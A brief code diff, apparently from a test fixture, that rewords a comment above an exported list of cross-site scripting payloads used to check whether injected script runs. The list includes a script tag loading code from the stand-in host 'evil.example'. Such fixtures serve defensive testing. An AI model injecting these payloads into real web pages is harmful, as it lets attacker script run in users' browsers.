@@ -1,4 +1,4 @@
-/** Each payload sets `__hit`, opens a dialog or requests `evil.example` if it runs. */
+/** A payload that runs sets `__hit`, opens a dialog or contacts `evil.example`. */
 export const payloads = [
   '<script>__hit=1</script>',
   '<script src=//evil.example/x.js></script>',
